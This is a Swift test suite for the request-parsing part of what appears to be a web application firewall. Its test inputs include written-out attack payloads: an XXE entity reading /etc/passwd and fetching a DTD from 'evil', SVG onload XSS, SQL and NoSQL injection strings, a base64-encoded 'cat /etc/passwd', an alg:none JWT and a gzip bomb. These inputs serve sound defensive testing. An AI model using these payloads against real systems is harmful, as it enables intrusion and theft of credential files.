import BodyDecompression
import CompressNIO
import MirrorGuardCore
import NIOCore
import Testing
@testable import RequestParsing

@Suite("Point extraction")
struct PointExtractorTests {
    @Test("path segments, full path and extension")
    func path() {
        let extracted = points(HTTPRequest(method: "GET", target: "/api/v1/users/42/avatar.PNG"))
        #expect(value(extracted, "path") == "/api/v1/users/42/avatar.PNG")
        #expect(value(extracted, "path[0]") == "api")
        #expect(value(extracted, "path[3]") == "42")
        #expect(value(extracted, "path[4]") == "avatar.PNG")
        #expect(value(extracted, "path.extension") == "png")
    }

    @Test("common header names are found in any case, and nothing else is")
    func commonHeaderNames() {
        func index(_ text: String) -> Int? { Array(text.utf8).withUnsafeBufferPointer { CommonHeaderNames.index(of: $0) } }
        for (position, name) in CommonHeaderNames.names.enumerated() {
            #expect(index(name) == position, "\(name)")
            #expect(index(name.uppercased()) == position, "\(name)")
            let capitalized = name.split(separator: "-", omittingEmptySubsequences: false).map { $0.prefix(1).uppercased() + $0.dropFirst() }
            #expect(index(capitalized.joined(separator: "-")) == position, "\(name)")
            #expect(CommonHeaderNames.pointNames[position] == "header." + name)
            // One byte changed anywhere, one byte more or less: another name or none.
            let bytes = Array(name.utf8)
            for offset in bytes.indices {
                for replacement: UInt8 in [0x00, 0x2D, 0x5F, bytes[offset] ^ 0x01, bytes[offset] ^ 0x80] where replacement != bytes[offset] {
                    var changed = bytes
                    changed[offset] = replacement
                    let found = changed.withUnsafeBufferPointer { CommonHeaderNames.index(of: $0) }
                    #expect(found == nil || found.map { CommonHeaderNames.names[$0].utf8.elementsEqual(changed.map(ASCII.lower)) } == true, "\(changed)")
                }
            }
            #expect(index(name + "s") == nil && index(name + "\u{0}") == nil && index(String(name.dropLast())) == CommonHeaderNames.names.firstIndex(of: String(name.dropLast())))
        }
        #expect(CommonHeaderNames.names[CommonHeaderNames.cookie] == "cookie")
        #expect(CommonHeaderNames.names[CommonHeaderNames.authorization] == "authorization")
        #expect(index("") == nil && index(String(repeating: "a", count: 33)) == nil && index("x-custom-header") == nil)
    }

    @Test("a head of common names is extracted as the general path would (an uncommon name forces that path)")
    func commonHeadLikeGeneral() {
        let heads: [[(String, String)]] = [
            [("Host", "shop.test"), ("User-Agent", "curl/8.5"), ("Accept", "*/*"), ("Cookie", "a=1"), ("Authorization", "Basic dXNlcjpwYXNz")],
            [("host", "shop.test"), ("CONTENT-TYPE", "text/plain"), ("x-request-id", "abc-123"), ("referer", "https://shop.test/%3Cx%3E")],
            [("Accept", "text/html"), ("accept", "application/json"), ("Host", "shop.test")],
        ]
        for head in heads {
            let common = points(HTTPRequest(method: "GET", target: "/", headers: HeaderFields(head.map { HeaderField(name: $0.0, value: $0.1) })))
            let general = points(HTTPRequest(method: "GET", target: "/", headers: HeaderFields((head + [("X-Uncommon", "1")]).map { HeaderField(name: $0.0, value: $0.1) })))
            let described = { (points: [Point]) in points.filter { $0.name != "header.x-uncommon" }.map { "\($0.name)=\($0.valueString)" } }
            #expect(described(common.points) == described(general.points))
        }
        let repeated = points(HTTPRequest(method: "GET", target: "/", headers: [("Accept", "a"), ("ACCEPT", "b")]))
        #expect(value(repeated, "header.accept[1]") == "b")
        #expect(value(points(HTTPRequest(method: "GET", target: "/", headers: [("Authorization", "Basic dXNlcjpwYXNz")])), "header.authorization|basic") == "user:pass")
    }

    @Test("a value the collector does not expand is one no decoder applies to")
    func expansionGate() {
        // Values built from the bytes the decoders look for; whenever the gate says no, expanding adds nothing.
        let alphabet = Array("%&\\;#.=+/-_{}[]<>\"'uxXeyJ0123456789abcdefABCDEF ltgamp?!".utf8)
        let encoded = ["c2VsZWN0ICogZnJvbSB1c2Vycw==", "PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==", "dGhlIHF1aWNrIGJyb3duIGZveA", "Li4vLi4vZXRjL3Bhc3N3ZA",
                       "e30=", "aGk=", "Y2F0IC9ldGMvcGFzc3dk"]
        var random = SeededGenerator(seed: 0x6D67_6174_6500_0001)
        var skipped = 0
        for round in 0..<20000 {
            let count = 3 + round % 38
            var value = (0..<count).map { _ in alphabet[Int(random.next() % UInt64(alphabet.count))] }
            if round % 5 == 0 { value = Array("eyJhbGciOiJIUzI1NiJ9.eyJzdWIiOiIxIn0.c2ln".utf8).prefix(count) + value }
            if round % 7 == 0 { value = Array(encoded[round % encoded.count].utf8) }
            let traits = ValueTraits(value)
            guard !traits.mayExpand(count: value.count, layers: 0, maxLayers: ParsingLimits.default.maxDecodeLayers) else { continue }
            skipped += 1
            var collector = PointCollector(limits: .default)
            collector.expand(LazyPointName("query.v"), value, traits, .query, decoders: [])
            #expect(collector.points.isEmpty && collector.anomalies.isEmpty, "\(String(decoding: value, as: UTF8.self))")
        }
        #expect(skipped > 1000)
    }

    @Test("a Cookie field of plain, distinct names is extracted as the general path would (a second field forces that path)")
    func cookiesLikeGeneral() {
        let fields = ["sessionid=abc%20def; csrftoken=\"q\"; _ga=GA1.2.3;theme=dark;; flag", "a=1; A=2; a-b=3; a.b=4", "x=%3Cb%3E; y=+1"]
        for field in fields {
            let direct = points(HTTPRequest(method: "GET", target: "/", headers: [("Cookie", field)]))
            let general = points(HTTPRequest(method: "GET", target: "/", headers: [("Cookie", field), ("cookie", "zz-other=1")]))
            let described = { (points: [Point]) in points.filter { $0.name != "cookie.zz-other" }.map { "\($0.name)=\($0.valueString)" } }
            #expect(described(direct.points) == described(general.points), "\(field)")
            #expect(PointExtractor.cookieNamesPlainlyDistinct(Array(field.utf8), limit: 64))
        }
        #expect(value(points(HTTPRequest(method: "GET", target: "/", headers: [("Cookie", "sessionid=abc%20def")])), "cookie.sessionid") == "abc def")
        // Repeated, non-plain or overlong names take the general path.
        for field in ["s=1; t=2; s=3", "a b=1", "$where=1", String(repeating: "k", count: 65) + "=1", "=1"] {
            #expect(!PointExtractor.cookieNamesPlainlyDistinct(Array(field.utf8), limit: 64), "\(field)")
        }
        let many = (0..<70).map { "c\($0)=\($0)" }.joined(separator: "; ")
        #expect(!PointExtractor.cookieNamesPlainlyDistinct(Array(many.utf8), limit: 64))
        #expect(value(points(HTTPRequest(method: "GET", target: "/", headers: [("Cookie", many)])), "cookie.c69") == "69")
        #expect(value(points(HTTPRequest(method: "GET", target: "/", headers: [("Cookie", "a b=1")])), "cookie.a%20b#key") == "a b")
    }

    @Test("multipart text sniffing eight bytes at a time agrees with a byte-by-byte reading")
    func textSniffing() {
        func reference(_ bytes: [UInt8]) -> Bool {
            let sample = bytes.prefix(1024)
            guard !sample.isEmpty, !sample.contains(0) else { return false }
            let printable = sample.filter { $0 >= 0x20 || $0 == ASCII.tab || $0 == ASCII.lf || $0 == ASCII.cr }.count
            return printable * 10 >= sample.count * 9
        }
        var random = SeededGenerator(seed: 0x7465_7874)
        let alphabet: [UInt8] = [0x00, 0x01, 0x09, 0x0A, 0x0D, 0x1F, 0x20, 0x41, 0x7E, 0x7F, 0x80, 0xC3, 0xFF]
        for round in 0..<3000 {
            let count = round < 1000 ? round % 41 : [1023, 1024, 1025, 1100][round % 4]
            // Mostly text with a few odd bytes, so both verdicts occur.
            let odds = Int(random.next() % 12)
            var bytes = (0..<count).map { _ in UInt8(0x20 + random.next() % 0x5F) }
            for _ in 0..<(count == 0 ? 0 : odds) { bytes[Int(random.next() % UInt64(count))] = alphabet[Int(random.next() % UInt64(alphabet.count))] }
            #expect(MultipartExtractor.isText(bytes[...]) == reference(bytes), "\(bytes)")
            // A slice not starting at zero reads the same.
            if count > 1 { #expect(MultipartExtractor.isText(bytes[1...]) == reference(Array(bytes.dropFirst()))) }
        }
    }

    @Test("a query of plain, distinct keys is extracted as the general path would (a bracket key forces that path)")
    func queryLikeGeneral() {
        for query in ["q=red+shoes&page=2&sort=-date&flag&utm_source=news%20letter", "a=1&A=2&a-b=%3Cb%3E&a.b=&&x=y=z", "t=eyJhbGciOiJIUzI1NiJ9"] {
            let direct = points(HTTPRequest(method: "GET", target: "/s?" + query))
            let general = points(HTTPRequest(method: "GET", target: "/s?" + query + "&zz[]=1"))
            let described = { (points: [Point]) in points.filter { !$0.name.hasPrefix("query.zz") }.map { "\($0.name)=\($0.valueString)" } }
            #expect(described(direct.points) == described(general.points), "\(query)")
        }
        // Derived points filling the collector cut the rest into one raw point, as the general path does.
        var limits = ParsingLimits.default
        limits.maxParameters = 4
        let cut = points(HTTPRequest(method: "GET", target: "/?a=%2541&b=%2542&c=3"), limits: limits)
        #expect(cut.points.map(\.name) == ["query.a", "query.a|percent", "query.b", "query.b|percent", "query"])
        #expect(value(cut, "query") == "c=3")
        #expect(cut.anomalies.map(\.kind).contains(.tooManyParameters))
    }

    @Test("tables written out as literals equal their definitions")
    func literalTables() {
        #expect(ValueTraits.classes == ValueTraits.makeClasses())
        #expect(Base64Decoder.looksTable == Base64Decoder.makeLooksTable())
    }

    @Test("absolute-form targets lose scheme and authority")
    func absoluteForm() {
        let extracted = points(HTTPRequest(method: "GET", target: "http://example.com:8080/a/b?q=1"))
        #expect(value(extracted, "path") == "/a/b")
        #expect(value(extracted, "query.q") == "1")
    }

    @Test("query parameters: repeated, list and hash forms, plus and percent decoding")
    func query() {
        let extracted = points(HTTPRequest(method: "GET", target: "/s?q=a+b%20c&id=1&id=2&tags[]=x&tags[]=y&user[name]=bob&user[address][city]=Paris&m[0]=z&flag"))
        #expect(value(extracted, "query.q") == "a b c")
        #expect(value(extracted, "query.id[0]") == "1")
        #expect(value(extracted, "query.id[1]") == "2")
        #expect(value(extracted, "query.tags[0]") == "x")
        #expect(value(extracted, "query.tags[1]") == "y")
        #expect(value(extracted, "query.user.name") == "bob")
        #expect(value(extracted, "query.user.address.city") == "Paris")
        #expect(value(extracted, "query.m[0]") == "z")
        #expect(value(extracted, "query.flag") == "")
        #expect(value(extracted, "query.id") == nil)
    }

    @Test("names are numbered exactly when repeated: keys alike in length and end bytes stay apart, case and cookies count")
    func repeatedNames() {
        let alike = points(HTTPRequest(method: "GET", target: "/s?axb=1&ayb=2&Axb=3"))
        #expect(value(alike, "query.axb") == "1")
        #expect(value(alike, "query.ayb") == "2")
        #expect(value(alike, "query.Axb") == "3")
        let cookies = points(HTTPRequest(method: "GET", target: "/", headers: [("Cookie", "s=1; t=2; s=3")]))
        #expect(value(cookies, "cookie.s[0]") == "1")
        #expect(value(cookies, "cookie.s[1]") == "3")
        #expect(value(cookies, "cookie.t") == "2")
    }

    @Test("keys that are not identifiers become key points with escaped names")
    func keyPoints() {
        let extracted = points(HTTPRequest(method: "GET", target: "/?user[$ne]=1&%27%20or%201=1--=x&a.b=1"))
        let keys = extracted.points.filter { $0.role == .key }
        #expect(keys.map(\.valueString).contains("user[$ne]"))
        #expect(keys.map(\.valueString).contains("' or 1"))
        #expect(value(extracted, "query.user.$ne") == "1")
        // '.' inside a key is escaped so it cannot forge a path.
        #expect(value(extracted, "query.a%2Eb") == "1")
        #expect(keys.allSatisfy { $0.name.hasSuffix("#key") })
    }

    @Test("every header is a point; repeated headers are indexed; cookies are split and decoded")
    func headersAndCookies() {
        let extracted = points(request("GET / HTTP/1.1\r\nHost: a.test\r\nUser-Agent: curl/8\r\nX-Forwarded-For: 1.1.1.1\r\nX-Forwarded-For: 2.2.2.2\r\nCookie: session=abc; theme=%3Cb%3E\r\nCookie: \"q\"=\"quoted\"\r\n\r\n"))
        #expect(value(extracted, "header.host") == "a.test")
        #expect(value(extracted, "header.user-agent") == "curl/8")
        #expect(value(extracted, "header.x-forwarded-for[0]") == "1.1.1.1")
        #expect(value(extracted, "header.x-forwarded-for[1]") == "2.2.2.2")
        #expect(value(extracted, "cookie.session") == "abc")
        #expect(value(extracted, "cookie.theme") == "<b>")
        #expect(value(extracted, "header.cookie") == nil)
    }

    @Test("urlencoded form bodies")
    func form() {
        let extracted = points(request("POST /login HTTP/1.1\r\nContent-Type: application/x-www-form-urlencoded; charset=UTF-8\r\nContent-Length: 33\r\n\r\nuser=o%27brien&pass=a+b&remember="))
        #expect(value(extracted, "body.form.user") == "o'brien")
        #expect(value(extracted, "body.form.pass") == "a b")
        #expect(value(extracted, "body.form.remember") == "")
    }

    @Test("JSON: nested leaves, arrays, escapes, odd keys, numbers and booleans")
    func json() {
        let body = #"{"user":{"name":"Zo\u00e9","emails":["a@x.io","b@x.io"],"age":31,"admin":false,"note":null},"$where":"1","a b":"c","items":[{"sku":"X1"}]}"#
        let extracted = points(HTTPRequest(method: "POST", target: "/u", headers: [("Content-Type", "application/json")], body: bytes(body)))
        #expect(value(extracted, "body.json.user.name") == "Zoé")
        #expect(value(extracted, "body.json.user.emails[0]") == "a@x.io")
        #expect(value(extracted, "body.json.user.emails[1]") == "b@x.io")
        #expect(value(extracted, "body.json.user.age") == "31")
        #expect(value(extracted, "body.json.user.admin") == "false")
        #expect(value(extracted, "body.json.user.note") == nil)
        #expect(value(extracted, "body.json.$where#key") == "$where")
        #expect(value(extracted, "body.json.a%20b") == "c")
        #expect(value(extracted, "body.json.items[0].sku") == "X1")
        #expect(extracted.anomalies.isEmpty)
    }

    @Test("JSON names kept as tree nodes read, hash and compare exactly as the names written out")
    func jsonNameTree() {
        let long = String(repeating: "k", count: 70)
        let body = #"{"a.b":{"x y":[[1,{"\#(long)":"v","[q]":{"$ne":"z"}}],"été"]},"items":[{"sku":"S"},{"sku":"T","tags":["n","m"]}],"#
            + #""deep":[[[[[[[[[[[[[[[[[[[[[[[[[[[[[[[[[[["end"]]]]]]]]]]]]]]]]]]]]]]]]]]]]]]]]]]}"#
        let extracted = points(HTTPRequest(method: "POST", target: "/u", headers: [("Content-Type", "application/json")], body: bytes(body)))
        let names = extracted.points.filter { $0.name.hasPrefix("body.json.") }.map(\.name)
        for expected in ["body.json.a%2Eb.x%20y[0][0]", "body.json.a%2Eb.x%20y[0][1]." + String(repeating: "k", count: 64) + "~~",
                         "body.json.a%2Eb.x%20y[0][1].%5Bq%5D#key", "body.json.a%2Eb.x%20y[0][1].%5Bq%5D.$ne#key",
                         "body.json.a%2Eb.x%20y[0][1].%5Bq%5D.$ne", "body.json.a%2Eb.x%20y[1]", "body.json.items[0].sku", "body.json.items[1].tags[1]"] {
            #expect(names.contains(expected), "\(expected) in \(names)")
        }
        #expect(names.contains { $0.hasPrefix("body.json.deep[0][0]") })
        var nodes = 0
        for point in extracted.points {
            let written = LazyPointName(point.name)
            if case .node = point.lazyName.tail { nodes += 1 }
            #expect(point.lazyName.fingerprint == written.fingerprint, "\(point.name)")
            #expect(point.lazyName.fingerprint(foldingIndices: true) == written.fingerprint(foldingIndices: true), "\(point.name)")
            #expect(point.lazyName.isSameName(as: written) && written.isSameName(as: point.lazyName), "\(point.name)")
        }
        #expect(nodes >= 9)
        // A parent not yet added is the root: chains always end; an unknown node is named as the root.
        let tree = NameTree(root: "body.json", limit: 64)
        let node = tree.add(parent: 0, .key(Array("a".utf8)[...]))
        #expect(LazyPointName(tree: tree, node: node).string == "body.json.a")
        #expect(LazyPointName(tree: tree, node: 7).string == "body.json")
        let others = extracted.points.filter { if case .node = $0.lazyName.tail { return true } else { return false } }
        for (first, second) in zip(others, others.dropFirst()) { #expect(!first.lazyName.isSameName(as: second.lazyName)) }
    }

    @Test("invalid JSON keeps what parsed, reports it and analyses the raw body")
    func invalidJSON() {
        let extracted = points(HTTPRequest(method: "POST", target: "/", headers: [("Content-Type", "application/json")], body: bytes(#"{"a":"1","b": tru"#)))
        #expect(value(extracted, "body.json.a") == "1")
        #expect(extracted.anomalies.map(\.kind).contains(.invalidJSON))
        #expect(value(extracted, "body") == #"{"a":"1","b": tru"#)
    }

    @Test("untyped bodies are sniffed as JSON, XML or forms")
    func sniffing() {
        #expect(value(points(HTTPRequest(method: "POST", target: "/", body: bytes(#"{"k":"v"}"#))), "body.json.k") == "v")
        #expect(value(points(HTTPRequest(method: "POST", target: "/", body: bytes("<?xml version=\"1.0\"?><a><b>t</b></a>"))), "body.xml.a.b") == "t")
        #expect(value(points(HTTPRequest(method: "POST", target: "/", body: bytes("a=1&b=2"))), "body.form.b") == "2")
        #expect(value(points(HTTPRequest(method: "POST", target: "/", headers: [("Content-Type", "text/plain")], body: bytes("just some text"))), "body") == "just some text")
    }

    @Test("XML: elements, attributes, repeated siblings, comments, PIs, DOCTYPE and entities")
    func xml() {
        let body = """
        <?xml version="1.0"?>
        <!DOCTYPE order [<!ENTITY xxe SYSTEM "file:///etc/passwd"> <!ENTITY % p SYSTEM "http://evil/x.dtd">]>
        <order id="7"><!-- note --><item sku="A&amp;1">one</item><item sku="B">two &lt;b&gt;</item><?php echo 1; ?><empty/><data><![CDATA[<raw>]]></data></order>
        """
        let extracted = points(HTTPRequest(method: "POST", target: "/x", headers: [("Content-Type", "application/xml")], body: bytes(body)))
        #expect(value(extracted, "body.xml.order@id") == "7")
        #expect(value(extracted, "body.xml.order.item[0]") == "one")
        #expect(value(extracted, "body.xml.order.item[1]") == "two <b>")
        #expect(value(extracted, "body.xml.order.item@sku[0]") == "A&1")
        #expect(value(extracted, "body.xml.order.data") == "<raw>")
        #expect(value(extracted, "body.xml#comment") == " note ")
        #expect(value(extracted, "body.xml#pi") == "php echo 1; ")
        #expect(value(extracted, "body.xml#doctype")?.hasPrefix("<!DOCTYPE order [") == true)
        #expect(value(extracted, "body.xml#entity.xxe") == #"SYSTEM "file:///etc/passwd""#)
        #expect(value(extracted, "body.xml#entity.p") == #"SYSTEM "http://evil/x.dtd""#)
    }

    @Test("multipart: fields, file names, part headers, text files; binary files skipped")
    func multipart() {
        let body = "--XyZ\r\nContent-Disposition: form-data; name=\"title\"\r\n\r\nHello\r\n"
            + "--XyZ\r\nContent-Disposition: form-data; name=\"avatar\"; filename=\"me.svg\"\r\nContent-Type: image/svg+xml\r\n\r\n<svg onload=alert(1)>\r\n"
            + "--XyZ\r\nContent-Disposition: form-data; name=\"blob\"; filename=\"b.bin\"\r\n\r\n\u{0}\u{1}\u{2}\r\n--XyZ--\r\n"
        let extracted = points(HTTPRequest(method: "POST", target: "/up", headers: [("Content-Type", "multipart/form-data; boundary=XyZ")], body: bytes(body)))
        #expect(value(extracted, "body.multipart.title") == "Hello")
        #expect(value(extracted, "body.multipart.avatar.filename") == "me.svg")
        #expect(value(extracted, "body.multipart.avatar.header.content-type") == "image/svg+xml")
        #expect(value(extracted, "body.multipart.avatar") == "<svg onload=alert(1)>")
        #expect(value(extracted, "body.multipart.blob.filename") == "b.bin")
        #expect(value(extracted, "body.multipart.blob") == nil)
        #expect(extracted.anomalies.isEmpty)
    }

    @Test("multipart without a boundary parameter is sniffed and reported")
    func multipartMissingBoundary() {
        let body = "--abc\r\nContent-Disposition: form-data; name=\"q\"\r\n\r\nvalue\r\n--abc--\r\n"
        let extracted = points(HTTPRequest(method: "POST", target: "/", headers: [("Content-Type", "multipart/form-data")], body: bytes(body)))
        #expect(extracted.anomalies.map(\.kind).contains(.multipartMissingBoundary))
        #expect(value(extracted, "body.multipart.q") == "value")
    }

    @Test("multipart with an unknown boundary falls back to the raw body")
    func multipartWrongBoundary() {
        let extracted = points(HTTPRequest(method: "POST", target: "/", headers: [("Content-Type", "multipart/form-data; boundary=nope")], body: bytes("payload without parts")))
        #expect(extracted.anomalies.map(\.kind).contains(.multipartMalformed))
        #expect(value(extracted, "body") == "payload without parts")
    }

    @Test("GraphQL: document, variables, operation name and string arguments")
    func graphQL() {
        let body = #"{"query":"query Q($id: ID!) { user(id: $id, name: \"bob' or 1=1\") { posts(filter: \"\"\"x\"\"\") { id } } }","variables":{"id":"42"},"operationName":"Q"}"#
        let extracted = points(HTTPRequest(method: "POST", target: "/graphql", headers: [("Content-Type", "application/json")], body: bytes(body)))
        #expect(value(extracted, "body.graphql.query")?.hasPrefix("query Q") == true)
        #expect(value(extracted, "body.graphql.variables.id") == "42")
        #expect(value(extracted, "body.graphql.operationName") == "Q")
        #expect(value(extracted, "body.graphql.arguments.name") == "bob' or 1=1")
        #expect(value(extracted, "body.graphql.arguments.filter") == "x")
    }

    @Test("a quoted GraphQL key is found wherever it stands, never inside another key or unquoted")
    func quotedKeys() {
        let rows: [(String, Bool)] = [
            (#"{"query":"{ a }"}"#, true), (#"{"qty":1,"quick":2,"query":"{ a }"}"#, true), (#"{"myquery":"x"}"#, false),
            (#"{"query2":"x"}"#, false), (#"{query: 1}"#, false), (#""query""#, true), (#"query""#, false), (#""quer"#, false),
            (#"{"a":"q","b":"query"}"#, true), (String(repeating: #"{"q":"qq"},"#, count: 40) + #""query""#, true), ("", false),
        ]
        for (text, expected) in rows {
            let found = Array(text.utf8).withUnsafeBufferPointer { GraphQLExtractor.containsQuotedKey($0, "query") }
            #expect(found == expected, "\(text)")
        }
        // Only a body with GraphQL's keys (or sent to a GraphQL path) is read as GraphQL.
        #expect(GraphQLExtractor.isGraphQLJSON(bytes(#"{"query":"{ a }","variables":{}}"#), path: Array("/api".utf8)[...]))
        #expect(!GraphQLExtractor.isGraphQLJSON(bytes(#"{"query":"red shoes","page":2}"#), path: Array("/api".utf8)[...]))
        #expect(GraphQLExtractor.isGraphQLJSON(bytes(#" {"query":"{ a }"}"#), path: Array("/graphql".utf8)[...]))
    }

    @Test("JWT in Authorization and in cookies; Basic credentials")
    func tokens() {
        // {"alg":"none","typ":"JWT"} . {"sub":"admin' --","roles":["a"]}
        let jwt = "eyJhbGciOiJub25lIiwidHlwIjoiSldUIn0.eyJzdWIiOiJhZG1pbicgLS0iLCJyb2xlcyI6WyJhIl19."
        let extracted = points(request("GET / HTTP/1.1\r\nAuthorization: Bearer \(jwt)\r\nCookie: token=\(jwt)\r\n\r\n"))
        #expect(value(extracted, "header.authorization|jwt.header.alg") == "none")
        #expect(value(extracted, "header.authorization|jwt.payload.sub") == "admin' --")
        #expect(value(extracted, "header.authorization|jwt.payload.roles[0]") == "a")
        #expect(value(extracted, "cookie.token|jwt.payload.sub") == "admin' --")
        let basic = points(request("GET / HTTP/1.1\r\nAuthorization: Basic YWRtaW46cGFzcw==\r\n\r\n"))
        #expect(value(basic, "header.authorization|basic") == "admin:pass")
    }

    @Test("decoder chains are recorded in names: double encoding, entities, escapes, base64, JSON in values")
    func decoderChains() {
        let target = "/?a=%253Cscript%253E&b=%26lt%3Bimg%26gt%3B&c=%5Cu003csvg%5Cu003e&d=eyJjbWQiOiAiY2F0IC9ldGMvcGFzc3dkIn0%3D&e=%7B%22x%22%3A%7B%22%24gt%22%3A%22%22%7D%7D"
        let extracted = points(HTTPRequest(method: "GET", target: target))
        #expect(value(extracted, "query.a") == "%3Cscript%3E")
        #expect(value(extracted, "query.a|percent") == "<script>")
        #expect(value(extracted, "query.b|html") == "<img>")
        #expect(value(extracted, "query.c|unicode") == "<svg>")
        #expect(value(extracted, "query.d|base64") == #"{"cmd": "cat /etc/passwd"}"#)
        #expect(value(extracted, "query.d|base64|json.cmd") == "cat /etc/passwd")
        #expect(value(extracted, "query.e|json.x.$gt") == "")
        #expect(value(extracted, "query.e|json.x.$gt#key") == "$gt")
        let chained = extracted.points.first { $0.name == "query.d|base64|json.cmd" }
        #expect(chained?.decoders == [.base64, .json])
    }

    @Test("plain identifiers, hex ids and numbers are not mistaken for base64")
    func noFalseBase64() {
        let extracted = points(HTTPRequest(method: "GET", target: "/?s=1F767F17239C9B670A39E9B10C3825F4&w=internationalization&n=1234567890123456"))
        #expect(!extracted.points.contains { $0.decoders.contains(.base64) })
    }

    @Test("decoding stops at maxDecodeLayers and says so")
    func decodeLayers() {
        var limits = ParsingLimits()
        limits.maxDecodeLayers = 2
        // '<' encoded four times over.
        let extracted = points(HTTPRequest(method: "GET", target: "/?x=%25252525253C"), limits: limits)
        #expect(extracted.points.contains { $0.name == "query.x|percent|percent" })
        #expect(!extracted.points.contains { $0.name == "query.x|percent|percent|percent" })
        #expect(extracted.anomalies.map(\.kind).contains(.decodeLayersExceeded))
    }

    @Test("invalid UTF-8 is kept as bytes in points")
    func invalidUTF8() {
        var target = bytes("/p?x=")
        target += [0xC3, 0x28, 0xFF, 0x41]
        let extracted = points(HTTPRequest(method: bytes("GET"), target: target))
        let point = extracted.points.first { $0.name == "query.x" }
        #expect(point?.value == [0xC3, 0x28, 0xFF, 0x41])
        let encoded = points(HTTPRequest(method: "GET", target: "/?y=%FF%FEa"))
        #expect(encoded.points.first { $0.name == "query.y" }?.value == [0xFF, 0xFE, 0x61])
    }

    @Test("100,000 parameters stop at the limit; the rest is analysed as one raw point")
    func manyParameters() throws {
        let query = (0..<100_000).map { "p\($0)=v" }.joined(separator: "&") + "&last=%3Cscript%3E"
        let extracted = points(HTTPRequest(method: "GET", target: "/?" + query))
        #expect(extracted.points.count <= ParsingLimits.default.maxParameters + 2)
        #expect(extracted.anomalies.map(\.kind).contains(.tooManyParameters))
        let rest = try #require(extracted.points.first { $0.name == "query" })
        #expect(String(decoding: rest.value.suffix(13), as: UTF8.self) == "last=<script>")
        // The remainder starts at the first pair that did not fit: nothing before it is analysed twice.
        #expect(String(decoding: rest.value.prefix(13), as: UTF8.self) == "p1024=v&p1025")
    }

    @Test("10,000-deep JSON is bounded: deeper values analysed as raw text")
    func deepJSON() {
        let body = String(repeating: "[", count: 10_000) + "\"deep\"" + String(repeating: "]", count: 10_000)
        let extracted = points(HTTPRequest(method: "POST", target: "/", headers: [("Content-Type", "application/json")], body: bytes(body)))
        #expect(extracted.anomalies.map(\.kind).contains(.jsonDepthExceeded))
        #expect(extracted.points.contains { $0.location == .body && $0.value.contains(0x64) })
    }

    @Test("10,000-deep XML is bounded")
    func deepXML() {
        let body = String(repeating: "<a>", count: 10_000) + "x" + String(repeating: "</a>", count: 10_000)
        let extracted = points(HTTPRequest(method: "POST", target: "/", headers: [("Content-Type", "text/xml")], body: bytes(body)))
        #expect(extracted.anomalies.map(\.kind).contains(.xmlDepthExceeded))
        #expect(extracted.points.contains { $0.valueString == "x" })
    }

    @Test("gzip bodies are inflated; a gzip bomb stops at the cap")
    func gzip() throws {
        let json = bytes(#"{"q":"inflated"}"#)
        let small = try compress(json)
        let extracted = points(HTTPRequest(method: "POST", target: "/", headers: [("Content-Type", "application/json"), ("Content-Encoding", "gzip")], body: small), decompressor: ZlibBodyDecompressor())
        #expect(value(extracted, "body.json.q") == "inflated")
        #expect(extracted.points.first { $0.name == "body.json.q" }?.decoders == [.gzip])

        // 1 GiB of zeros compresses to about 1 MB; 64 MiB (~64 KB compressed) shows the same bound here.
        let bomb = try compress([UInt8](repeating: 0x30, count: 64 << 20))
        #expect(bomb.count < 100_000)
        let limited = points(HTTPRequest(method: "POST", target: "/", headers: [("Content-Encoding", "gzip")], body: bomb), decompressor: ZlibBodyDecompressor())
        #expect(limited.anomalies.map(\.kind).contains(.decompressionLimit))
        let body = limited.points.first { $0.name == "body" }
        #expect((body?.value.count ?? 0) <= ParsingLimits.default.maxDecompressedBytes)
    }

    @Test("corrupt gzip and unsupported codings are reported, the raw body is not lost")
    func badCompression() {
        let corrupt = points(HTTPRequest(method: "POST", target: "/", headers: [("Content-Encoding", "gzip")], body: bytes("not gzip at all")), decompressor: ZlibBodyDecompressor())
        #expect(corrupt.anomalies.map(\.kind).contains(.decompressionFailed))
        #expect(value(corrupt, "body") == "not gzip at all")
        let brotli = points(HTTPRequest(method: "POST", target: "/", headers: [("Content-Encoding", "br")], body: bytes("x")))
        #expect(brotli.anomalies.map(\.kind).contains(.compressedBodyNotInspected))
    }

    private func compress(_ input: [UInt8]) throws -> [UInt8] {
        var buffer = ByteBuffer(bytes: input)
        let compressed = try buffer.compress(with: .gzip)
        return Array(compressed.readableBytesView)
    }
}
